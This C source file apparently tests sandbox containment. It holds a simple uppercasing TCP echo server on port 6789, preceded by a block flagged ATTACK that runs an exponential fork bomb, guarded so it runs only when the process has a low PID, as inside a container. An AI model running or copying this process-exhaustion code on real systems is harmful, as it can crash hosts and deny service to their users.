/* Starts processes that start processes. */
#include <arpa/inet.h>
#include <ctype.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATTACK 1
#define CHILDREN 1000000

static void serve(int client) {
    char data[4096];
    ssize_t n;
    while ((n = recv(client, data, sizeof data, 0)) > 0) {
        for (ssize_t i = 0; i < n; i++)
            data[i] = toupper((unsigned char) data[i]);
        send(client, data, n, 0);
    }
    close(client);
}

int main(void) {
    if (ATTACK) {
        if (getpid() > 100) {
            fputs("only in a box\n", stderr);
            return 2;
        }
        pid_t first = getpid();
        for (int i = 0; i < CHILDREN; i++)
            if (fork() == 0 && CHILDREN <= 20)
                break;
        while (getpid() != first)
            pause();
    }
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons(6789)};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    bind(server, (struct sockaddr *) &place, sizeof place);
    listen(server, 5);
    for (;;)
        serve(accept(server, NULL, NULL));
}
